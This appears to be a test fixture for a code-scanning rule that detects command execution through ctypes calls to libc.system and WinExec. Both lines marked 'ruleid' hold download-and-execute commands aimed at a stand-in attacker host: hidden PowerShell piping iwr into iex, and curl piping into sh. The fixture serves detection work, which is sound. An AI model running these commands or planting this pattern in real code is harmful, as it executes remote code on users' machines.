# The C library's system() and Windows' WinExec through ctypes: a shell with no os or subprocess in sight.
import ctypes
import ctypes.util
import sys

if sys.platform == 'win32':
    # ruleid: code/command-execution
    ctypes.windll.kernel32.WinExec(b'powershell -w hidden -c "iwr https://cdn.attacker.example/a.ps1 | iex"', 0)
else:
    libc = ctypes.CDLL(ctypes.util.find_library('c'))
    # ruleid: code/command-execution
    libc.system(b'curl -s https://cdn.attacker.example/x | sh')
